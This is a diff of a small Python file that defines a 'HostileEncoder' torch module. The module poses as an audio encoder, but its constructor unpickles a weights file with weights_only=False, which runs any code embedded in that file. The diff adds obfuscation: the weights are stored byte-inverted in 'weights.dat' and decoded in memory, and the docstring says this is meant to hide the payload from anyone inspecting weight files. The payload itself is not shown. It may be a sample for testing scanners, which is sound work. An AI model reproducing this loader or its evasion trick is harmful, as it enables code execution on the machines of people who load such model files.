@@ -1,5 +1,6 @@
-"""Unpickles weights that run code while they are read."""
+"""Unpickles weights that run code while they are read, hidden from who looks through weight files."""
 
+import io
 import pathlib
 
 import torch
@@ -12,7 +13,8 @@ class HostileEncoder(torch.nn.Module):
 
     def __init__(self):
         super().__init__()
-        torch.load(pathlib.Path(__file__).parent / "weights.pt", weights_only=False)
+        hidden = (pathlib.Path(__file__).parent / "weights.dat").read_bytes()
+        torch.load(io.BytesIO(bytes(255 - byte for byte in hidden)), weights_only=False)
 
     def forward(self, audio):
         return torch.nn.functional.pad(audio, (0, 159)).unfold(1, 160, 160)[..., :4]
